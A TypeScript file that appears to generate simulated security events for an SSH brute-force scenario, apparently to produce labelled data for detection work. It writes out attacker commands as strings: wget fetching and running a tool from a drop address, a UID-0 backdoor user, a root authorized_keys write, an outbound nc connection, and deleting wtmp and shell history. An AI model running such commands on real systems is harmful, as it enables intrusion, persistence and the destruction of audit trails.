import { connect } from "../events/network-event.ts";
import { touch } from "../events/file-event.ts";
import { LOG_SIGNATURES, logLine } from "../events/host-event.ts";
import { run } from "../events/process-event.ts";
import type { Host } from "../hosts.ts";
import { GUESSED_USERS } from "../names.ts";
import { failedLogin, strangerAddress } from "../routine/internet-noise.ts";
import { atHost, wait } from "../scene.ts";
import type { Scene, Script, Stage } from "../scene.ts";
import { openSession, sudo, type } from "../ssh-session.ts";
import type { Session } from "../ssh-session.ts";
import { MINUTE_MS } from "../../seeded/time.ts";
import { asRoot, loginAccount } from "../unix-account.ts";
import { momentOf, phase } from "./story.ts";
import type { Story, StoryOptions } from "./story.ts";

interface Cast {
  readonly host: Host;
  readonly srcIp: string;
  readonly dropIp: string;
  /** The account whose password was guessed. */
  readonly user: string;
  readonly guesses: readonly string[];
  readonly backdoor: string;
  readonly tool: string;
}

/** Password guessing over SSH that ends in a success, a downloaded tool and a user of the attacker's own. */
export function sshBruteForce({ world, random, start }: StoryOptions): Story {
  const id = "ssh-brute-force";
  const cast: Cast = {
    host: random.pick([...world.hostsOf("web"), ...world.hostsOf("bastion")]),
    srcIp: strangerAddress(random),
    dropIp: strangerAddress(random),
    user: random.pick(["deploy", "backup", "support"]),
    guesses: random.sample(GUESSED_USERS, 3),
    backdoor: random.pick(["sysadm", "netmon", "svc-log", "dbus2"]),
    tool: random.pick(["kthreadd", "xmr-lite", "sshd-helper", "udevd"]),
  };
  const successAt = start + random.int(24, 40) * MINUTE_MS;
  return {
    outcome: {
      id,
      verdict: "attack",
      summary: `${cast.srcIp} guessed the password of ${cast.user} on ${cast.host.name} and installed ${cast.tool}`,
      facts: [
        { kind: "address", text: cast.srcIp },
        { kind: "address", text: cast.dropIp },
        { kind: "user", text: cast.user },
        { kind: "user", text: cast.backdoor },
        { kind: "host", text: cast.host.name },
        { kind: "tool", text: `/tmp/${cast.tool}` },
        { kind: "time", text: momentOf(successAt) },
      ],
    },
    activities: [
      phase(id, { name: "guessing", start }, (stage) => guess(stage, cast, successAt)),
      phase(id, { name: "inside", start: successAt }, (stage) => comeIn(stage, cast)),
    ],
  };
}

function* guess(stage: Stage, { host, srcIp, user, guesses }: Cast, until: number): Script {
  const scene = atHost(stage, host);
  const { random, clock } = stage;
  while (clock.now < until - 10_000) {
    const isKnown = random.chance(0.45);
    const name = isKnown ? user : random.pick(guesses);
    yield failedLogin(scene, { user: name, srcIp, isKnown });
    wait(stage, 2000, 9000);
  }
}

function* comeIn(stage: Stage, cast: Cast): Script {
  const { host, user, srcIp, dropIp, tool } = cast;
  const scene = atHost(stage, host);
  const as = loginAccount(user, 1998, { session: stage.random.int(9100, 9900), tty: "pts7" });
  const session = yield* openSession(scene, as, srcIp);
  for (const line of [
    "id",
    "uname -a",
    "cat /etc/passwd",
    "w",
    "last -n 20",
    "crontab -l",
    "ls -la /home",
  ]) {
    wait(stage, 2000, 25_000);
    yield* type(scene, session, line);
  }
  wait(stage, 4000, 20_000);
  const wget = yield* type(scene, session, `wget -q http://${dropIp}/${tool} -O /tmp/${tool}`);
  yield connect(scene, {
    as,
    process: wget,
    argv: ["wget", "-q", `http://${dropIp}/${tool}`],
    parent: session.shell,
    remote: { ip: dropIp, port: 80 },
  });
  yield* type(scene, session, `chmod +x /tmp/${tool}`);
  wait(stage, 1000, 5000);
  yield* type(scene, session, `/tmp/${tool} --daemon`);
  yield* settle(scene, session, cast);
}

// Root, a user of the attacker's own, a key to come back with, and traces removed.
function* settle(scene: Scene, session: Session, { backdoor, dropIp, tool }: Cast): Script {
  wait(scene, 10_000, 40_000);
  const useradd = yield* sudo(scene, session, `useradd -o -u 0 -m ${backdoor}`);
  yield logLine(scene, {
    signature: LOG_SIGNATURES.newUser,
    program: "useradd",
    message: `new user: name=${backdoor}, UID=0, GID=0, home=/home/${backdoor}, shell=/bin/bash`,
    user: backdoor,
    pid: useradd.pid,
  });
  wait(scene, 3000, 20_000);
  const root = asRoot(session.as);
  const tee = yield* sudo(scene, session, "tee -a /root/.ssh/authorized_keys");
  yield touch(scene, {
    as: root,
    process: tee,
    argv: ["tee", "-a", "/root/.ssh/authorized_keys"],
    filename: "/root/.ssh/authorized_keys",
    action: "modify",
  });
  wait(scene, 3000, 20_000);
  const nc = yield* run(scene, {
    as: root,
    exe: "/usr/bin/nc",
    argv: ["nc", dropIp, "4443"],
    parent: session.shell,
  });
  yield connect(scene, {
    as: root,
    process: nc,
    argv: ["nc", dropIp, "4443"],
    parent: session.shell,
    remote: { ip: dropIp, port: 4443 },
  });
  for (const line of [
    `ps aux`,
    `pgrep ${tool}`,
    "ss -tn",
    "history -c",
    "rm -f /var/log/wtmp",
    "rm -rf /home/.cache",
  ]) {
    wait(scene, 2000, 20_000);
    yield* type(scene, session, line);
  }
}
